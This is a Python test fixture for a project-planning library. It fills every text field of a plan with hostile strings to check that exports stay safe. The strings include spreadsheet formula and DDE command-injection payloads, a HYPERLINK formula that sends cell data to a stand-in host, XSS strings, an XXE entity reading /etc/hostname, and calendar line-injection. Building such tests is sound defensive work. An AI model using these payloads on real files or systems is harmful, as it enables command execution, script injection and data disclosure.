"""A plan in which every text is something that a spreadsheet, a calendar or a picture must not act on."""

from __future__ import annotations

from enum import Enum
from typing import TYPE_CHECKING, Any

import msgspec

from headway.core.plan.entities import Baseline, Entity, External
from tests.drawn import build

if TYPE_CHECKING:
    from headway.core.plan.plan import Plan

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "{=1+1}",
)
"""What a spreadsheet may run."""
MARKUP = (
    "</text><script>alert(1)</script>",
    '" onload="alert(1)',
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:made up",
    "\x00\x01\x08\x0b\x1b[31m\x7f\ud800\ufffe\uffff",
    "%s %d {0} {name} {{7*7}}",
)
"""What a page, a calendar or a terminal may act on."""
_NOT_TEXT = frozenset({"rank", "hash", "contour"})

TEXT = """
project: start 2027-03-01; data date 2027-03-10
calendar Nights: Mon-Fri 18:00-22:00
resource Ann: units 100%
resource Ben: units 50%; calendar Nights
Phase
  Survey 3d; actual start=2027-03-01 finish=2027-03-03; resource Ann
  Permit 5d; after Survey FS+1d; percent 40; resource Ben; SNET 2027-03-05
  Signed milestone; after Permit; deadline 2027-03-20
Party 1d
"""


def hostile(text: str) -> Plan:
    """The plan with ``text`` in every place where a text can stand."""
    plan = build(TEXT)
    poisoned = msgspec.structs.replace(
        plan,
        project=_poisoned(plan.project, text),
        tasks={each.id: _poisoned(each, text) for each in plan.tasks.values()},
        calendars={each.id: _poisoned(each, text) for each in plan.calendars.values()},
        resources={each.id: _poisoned(each, text) for each in plan.resources.values()},
        assignments={each.id: _poisoned(each, text) for each in plan.assignments.values()},
        baselines={1: Baseline(1, text)},
    )
    assert poisoned.tasks[1].name == poisoned.tasks[1].notes == poisoned.resources[1].email == text
    return poisoned


def _poisoned(value: Any, text: str) -> Any:
    changed: dict[str, Any] = {}
    for info in msgspec.structs.fields(value):
        content = getattr(value, info.name)
        if info.name == "custom":
            changed["custom"] = {text: text, "points": 3.5}
        elif info.name == "external":
            changed["external"] = _with_source(content, text)
        elif info.name in _NOT_TEXT or isinstance(content, (Enum, Entity)):
            continue
        elif isinstance(content, str) or info.type == str | None:
            changed[info.name] = text
    return msgspec.structs.replace(value, **changed)


def _with_source(external: External | None, text: str) -> External:
    return msgspec.structs.replace(external or External(), guid=text, code=text, source=text)
